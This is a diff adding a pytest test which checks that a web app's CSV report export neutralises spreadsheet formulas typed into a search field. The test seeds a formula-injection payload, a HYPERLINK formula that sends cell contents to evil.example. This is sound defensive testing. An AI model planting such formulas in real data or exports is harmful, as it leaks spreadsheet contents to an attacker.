@@ -82,6 +82,17 @@ def test_csv_hides_the_same_small_counts(referrals, client, login):  # noqa: ANN
     assert not any(cell in {"1", "2", "3", "4"} for row in rows for cell in row)
 
 
+def test_csv_shows_a_formula_typed_into_a_search_as_text(referrals, client, login):  # noqa: ANN001
+    """Anonymous searchers choose the town text; a spreadsheet must not run it."""
+    town = '=HYPERLINK("http://evil.example/?leak="&A1,"Norwich")'
+    db.session.add(ZeroResultSearch(need_areas=["legal"], town=town))
+    db.session.commit()
+    login(factories.make_user(Role.ANALYST))
+    rows = _rows(client.get("/reports/network.csv").get_data(as_text=True))
+    assert ["'" + town, "fewer than 5", "0", "0"] in rows
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
 def test_no_personal_data_on_the_page(referrals, client, login):  # noqa: ANN001
     from sqlalchemy import select
 
